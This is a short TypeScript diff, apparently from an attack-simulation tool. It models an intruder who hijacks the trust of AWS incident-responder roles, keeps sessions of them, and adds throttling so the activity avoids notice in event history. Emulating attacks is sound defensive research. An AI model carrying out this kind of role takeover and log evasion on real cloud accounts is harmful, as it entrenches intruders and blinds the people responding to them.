@@ -13,10 +13,20 @@ const ADMINISTRATOR = 'arn:aws:iam::aws:policy/AdministratorAccess';
  * bot's, so that the bot goes on working and nobody looks; then he takes a session of each and keeps it (T1098, T1550).
  */
 export function takeResponder(doors: readonly HisDoor[], his: Holdings): number {
-  const trusted = trustHim(doors, his, isResponders);
+  const trusted = goes(his) ? trustHim(doors, his, isResponders) : [];
   const sessions = [...his.responders].filter((roleArn) => borrow(doors, his, roleArn));
   for (const roleArn of trusted) his.responders.add(roleArn);
   return trusted.length + sessions.length;
+}
+
+/** Every half second there would be noise in the event history that somebody reads. */
+const BETWEEN_TRIES_MS = 20_000;
+
+function goes(his: Holdings): boolean {
+  const now = his.now().getTime();
+  if (now < his.nextTry) return false;
+  his.nextTry = now + BETWEEN_TRIES_MS;
+  return true;
 }
 
 /** From his own account; IAM takes its seconds to let him in. One session of each role is enough. */
